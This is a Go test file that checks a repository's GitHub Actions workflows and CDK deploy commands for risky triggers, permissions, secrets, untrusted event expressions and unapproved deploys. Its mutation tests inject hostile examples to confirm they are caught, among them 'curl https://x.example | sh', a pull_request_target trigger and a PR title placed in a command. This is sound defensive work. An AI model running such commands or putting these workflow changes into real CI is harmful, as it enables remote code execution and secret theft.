package test

import (
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
)

// The tests of threat S3: code that runs with the rights of CI or of a deployer, where a reviewer of Go would not look.
// tools/audit tests that actions are pinned to commits.

// triggers are the events that may start a workflow. pull_request gives a stranger's change a token that only reads;
// pull_request_target, workflow_run and issue_comment would give it the repository's own rights and secrets.
// https://docs.github.com/en/actions/reference/security/secure-use#mitigating-the-risks-of-untrusted-code-checkout
// workflow_call makes a workflow that others of this repository call, with their rights only.
var triggers = []string{"push", "pull_request", "schedule", "workflow_dispatch", "workflow_call"}

// runs are all commands that workflows run.
var runs = []string{".ci/run", ".ci/deliver"}

// jobPermissions are the rights that single jobs may have beside reading, by the line that the job must contain: only
// the workflow that AWS trusts gets GitHub's token for AWS, and only a job that checks out the base may comment.
var jobPermissions = map[string][]string{
	"contents: read":       {""},
	"id-token: write":      {"    uses: ./.github/workflows/stage.yml\n", "    environment: ${{ inputs.environment }}\n"},
	"pull-requests: write": {"          ref: ${{ github.base_ref }}\n"},
}

var (
	// key is a line that begins with a key, and its indentation.
	key = regexp.MustCompile(`(?m)^([ -]*)["']?([\w-]+)["']?[ \t]*:[ \t]*(.*)$`)
	// alias begins an anchor or an alias.
	alias = regexp.MustCompile(`(^|[\s:\[{,-])[&*]\w`)
)

// workflowProblems are the forbidden parts of a workflow. It reads the plain style of this repository's workflows, and
// refuses others.
func workflowProblems(text string) []string {
	var problems []string
	add := func(problem string) { problems = append(problems, problem) }
	for _, line := range strings.Split(text, "\n") {
		if alias.MatchString(strings.Split(line, " #")[0]) && !strings.Contains(line, "cron:") {
			add("an anchor or alias, which this test does not follow: " + line)
		}
	}
	if strings.Contains(text, "secrets.") || strings.Contains(text, "secrets[") {
		add("a secret")
	}
	// An event's fields are written by its author, who may be an attacker.
	if strings.Contains(text, "github.event.") || strings.Contains(text, "github.event[") ||
		strings.Contains(text, "github.head_ref") {
		add("an expression that holds what somebody else wrote")
	}
	block, permissions, checkouts := "", 0, strings.Count(text, "actions/checkout@")
	for _, match := range key.FindAllStringSubmatch(text, -1) {
		indentation, name, value := match[1], match[2], match[3]
		if indentation == "" {
			block = name
		}
		switch {
		case name == "on" && value != "":
			add("triggers that are not one a line")
		case block == "on" && len(indentation) == 2 && !slices.Contains(triggers, name):
			add("the trigger " + name)
		case name == "permissions" && value != "":
			add("all permissions at once")
		case name == "permissions" && indentation == "":
			permissions++
		case block == "permissions" && indentation != "" && (name != "contents" || value != "read"):
			add("the permission " + name + ": " + value)
		case block == "jobs" && slices.Contains([]string{"read", "write"}, value) && !granted(text, name+": "+value):
			add("the permission " + name + ": " + value + " of a job")
		case name == "persist-credentials" && value == "false":
			checkouts--
		case name == "run" && !slices.Contains(runs, value):
			add("the command " + value)
		case name == "continue-on-error", name == "runs-on" && !strings.HasPrefix(value, "ubuntu-"):
			add(name + ": " + value)
		}
	}
	if permissions != 1 {
		add("no permissions, which are then the repository's default")
	}
	if checkouts != 0 {
		add("a checkout that leaves its token behind")
	}
	return problems
}

// job matches the first line of a job, which ends at the next job.
var job = regexp.MustCompile(`(?m)^  [\w-]+:$`)

// granted reports whether every job with a permission may have it.
func granted(text, permission string) bool {
	_, jobs, _ := strings.Cut(text, "\njobs:\n")
	for _, lines := range job.Split(jobs, -1) {
		trusted := slices.ContainsFunc(jobPermissions[permission], func(line string) bool {
			return strings.Contains(lines, line)
		})
		if strings.Contains(lines, permission) && !trusted {
			return false
		}
	}
	return true
}

func TestWorkflowsRunNoForeignCodeWithOurRights(t *testing.T) {
	var files []string
	for _, pattern := range []string{"*.yml", "*.yaml"} {
		found, err := filepath.Glob(filepath.Join(root, ".github", "workflows", pattern))
		if err != nil {
			t.Fatal(err)
		}
		files = append(files, found...)
	}
	if len(files) == 0 {
		t.Fatal("no workflow: nothing was checked")
	}
	for _, file := range files {
		text := read(t, file)
		for _, problem := range workflowProblems(text) {
			t.Errorf("%s has %s", file, problem)
		}
		if strings.Contains(text, "run: .ci/run") && !strings.Contains(text, "AUDIT_OFFLINE: refused") {
			t.Errorf("%s: an audit that reached no database would pass (threat S4)", file)
		}
	}
	if _, err := os.Stat(filepath.Join(root, ".github", "actions")); err == nil {
		t.Error(".github/actions: actions of this repository are not looked at; put commands into .ci/run")
	}
}

func read(t *testing.T, file string) string {
	t.Helper()
	text, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	return string(text)
}

func TestADangerousWorkflowIsFound(t *testing.T) {
	good := read(t, filepath.Join(root, ".github", "workflows", "ci.yml"))
	for name, change := range map[string][2]string{
		"another trigger":      {"  pull_request:\n", "  pull_request_target:\n"},
		"a quoted trigger":     {"  pull_request:\n", "  \"issue_comment\":\n"},
		"triggers on one line": {"on:\n", "on: [push, pull_request_target]\nx:\n"},
		"more rights":          {"  contents: read\n", "  contents: write\n"},
		"another right":        {"  contents: read\n", "  contents: read\n  id-token: write\n"},
		"all rights":           {"permissions:\n  contents: read\n", "permissions: write-all\n"},
		"no rights named":      {"permissions:\n  contents: read\n", ""},
		"rights of a job":      {"    runs-on:", "    permissions:\n      packages: write\n    runs-on:"},
		"a token left behind":  {"          persist-credentials: false\n", "          fetch-depth: 0\n"},
		"a second checkout": {
			"      - uses: actions/setup-go",
			"      - uses: actions/checkout@x\n      - uses: actions/setup-go",
		},
		"another command":       {"run: .ci/run", "run: curl https://x.example | sh"},
		"a command by lines":    {"run: .ci/run", "run: |\n          make check"},
		"a secret":              {"AUDIT_OFFLINE: refused", "KEY: ${{ secrets.KEY }}"},
		"a title in a command":  {"AUDIT_OFFLINE: refused", "TITLE: ${{ github.event.pull_request.title }}"},
		"another machine":       {"runs-on: ubuntu-24.04", "runs-on: self-hosted"},
		"a failure that passes": {"    timeout-minutes: 45\n", "    continue-on-error: true\n"},
		"an alias":              {"    timeout-minutes: 45\n", "    env: *shared\n"},
	} {
		if !strings.Contains(good, change[0]) {
			t.Errorf("%s: the workflow has no %q", name, change[0])
		}
		if got := workflowProblems(strings.Replace(good, change[0], change[1], 1)); len(got) == 0 {
			t.Errorf("%s is not found", name)
		}
	}
}

func TestADangerousPipelineIsFound(t *testing.T) {
	for _, c := range []struct{ name, file, from, to string }{
		{"the right to comment where AWS is", "stage.yml",
			"      id-token: write\n", "      id-token: write\n      pull-requests: write\n"},
		{"AWS where comments are written", "deliver.yml", "      pull-requests: write\n", "      id-token: write\n"},
		{"AWS for every job", "deliver.yml",
			"permissions:\n  contents: read\n", "permissions:\n  contents: read\n  id-token: write\n"},
		{"another workflow with AWS", "deliver.yml",
			"./.github/workflows/stage.yml", "somebody/else/.github/workflows/stage.yml@main"},
		{"an input in a command", "stage.yml", "run: .ci/deliver", "run: .ci/deliver ${{ inputs.task }}"},
		{"what a reviewer did not start", "deliver.yml", "  pull_request:\n", "  pull_request_target:\n"},
	} {
		text := read(t, filepath.Join(root, ".github", "workflows", c.file))
		if !strings.Contains(text, c.from) {
			t.Errorf("%s: %s has no %q", c.name, c.file, c.from)
		}
		if got := workflowProblems(strings.ReplaceAll(text, c.from, c.to)); len(got) == 0 {
			t.Errorf("%s is not found", c.name)
		}
	}
}

// approves is the CDK CLI's option to widen rights without asking.
var approves = regexp.MustCompile(`(?i)require-?approval["']?[\s=:,"']+never`)

// approved is the one line that may use it: people approve the difference before, and a boundary limits every role.
const approved = `run deploy PREFLIGHT=no ARGS="--require-approval never"`

// TestADeployAsksBeforeItWidensRights: only ARGS on the command line can change that.
func TestADeployAsksBeforeItWidensRights(t *testing.T) {
	files := []string{"Makefile", "cdk.json", ".ci/run", ".ci/deliver", "package.json", "main.go"}
	for _, pattern := range []string{".github/workflows/*", "cmd/*/*.go"} {
		found, err := filepath.Glob(filepath.Join(root, pattern))
		if err != nil || len(found) == 0 {
			t.Fatalf("%s: %v", pattern, err)
		}
		for _, file := range found {
			if !strings.HasSuffix(file, "_test.go") {
				files = append(files, strings.TrimPrefix(file, root+"/"))
			}
		}
	}
	for _, file := range files {
		for _, line := range strings.Split(read(t, filepath.Join(root, file)), "\n") {
			line := strings.TrimSpace(line)
			if file == ".ci/deliver" && line == approved {
				continue
			}
			if approves.MatchString(line) && !strings.HasPrefix(line, "#") {
				t.Errorf("%s deploys without asking: %s", file, line)
			}
		}
	}
	for line, want := range map[string]bool{
		"cdk deploy --require-approval never": true,
		`"requireApproval": "never"`:          true,
		`"--require-approval", "never"`:       true,
		"--require-approval=never":            true,
		"--require-approval broadening":       false,
	} {
		if approves.MatchString(line) != want {
			t.Errorf("%s: want %t", line, want)
		}
	}
}
